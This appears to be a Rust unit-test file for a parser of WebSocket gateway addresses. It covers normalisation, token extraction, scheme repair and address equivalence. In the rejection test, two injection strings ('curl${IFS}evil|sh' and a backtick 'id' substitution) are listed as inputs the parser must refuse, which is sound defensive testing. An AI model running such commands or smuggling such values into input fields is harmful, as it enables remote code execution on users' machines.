use super::*;

fn fix(typed: &str) -> Option<Fix> {
    parse(typed).expect_err(typed).fix
}

#[test]
fn websocket_addresses_are_taken_as_they_are() {
    for (typed, shown) in [
        ("ws://127.0.0.1:18789", "ws://127.0.0.1:18789"),
        (
            "  wss://Gate.Example/claw?x=1 ",
            "wss://gate.example/claw?x=1",
        ),
        ("ws://[::1]:18789/gateway", "ws://[::1]:18789/gateway"),
        ("WS://host/", "ws://host/"),
    ] {
        assert_eq!(parse(typed).expect(typed).to_string(), shown);
    }
}

#[test]
fn a_page_address_is_repaired_with_the_token_of_a_dashboard_link() {
    assert_eq!(
        fix("http://127.0.0.1:18789/#token=a%20b"),
        Some(Fix {
            address: "ws://127.0.0.1:18789/".into(),
            token: Some("a b".into())
        })
    );
    assert_eq!(
        fix("https://gate.example").expect("a fix").address,
        "wss://gate.example"
    );
}

#[test]
fn a_missing_scheme_is_offered() {
    assert_eq!(
        fix("127.0.0.1:18789").expect("a fix").address,
        "ws://127.0.0.1:18789"
    );
    assert_eq!(
        fix("ws://ho st\u{7}:1").expect("a fix").address,
        "ws://host:1"
    );
    assert_eq!(
        fix("gate.example/ws").expect("a fix").address,
        "wss://gate.example/ws"
    );
}

#[test]
fn a_token_in_the_query_moves_to_its_own_field() {
    assert_eq!(
        fix("ws://host:1/?token=abc&v=4"),
        Some(Fix {
            address: "ws://host:1/?v=4".into(),
            token: Some("abc".into())
        })
    );
}

#[test]
fn nonsense_gets_a_message_and_no_fix() {
    for typed in [
        "",
        "ws://",
        "ws://:80",
        "ws://h:99999",
        "ws://h:0",
        "ftp://h",
        "ws://a@h",
        "ws://a b@h",
        "ws://x:1/;curl${IFS}evil|sh",
        "ws://x:1/`id`",
    ] {
        assert_eq!(fix(typed), None, "{typed}");
    }
    assert!(parse(&"a".repeat(5_000)).is_err());
}

#[test]
fn only_loopback_may_be_plain_on_an_https_page() {
    assert!(
        parse("ws://192.168.1.4:1")
            .expect("valid")
            .is_blocked_on_https()
    );
    assert!(
        !parse("ws://127.0.0.1:1")
            .expect("valid")
            .is_blocked_on_https()
    );
    assert!(
        !parse("wss://192.168.1.4:1")
            .expect("valid")
            .is_blocked_on_https()
    );
}

#[test]
fn two_ways_to_write_one_place_are_one() {
    let place = |typed: &str| parse(typed).expect(typed);
    for (one, other) in [
        ("ws://host", "ws://HOST:80/"),
        ("wss://host:443/claw", "wss://host/claw"),
    ] {
        assert!(place(one).is_place_of(&place(other)), "{one} {other}");
    }
    for (one, other) in [
        ("ws://host", "wss://host"),
        ("ws://host/a", "ws://host/b"),
        ("ws://host/a?x=1", "ws://host/a?x=2"),
        ("ws://host:1", "ws://host:2"),
    ] {
        assert!(!place(one).is_place_of(&place(other)), "{one} {other}");
    }
}
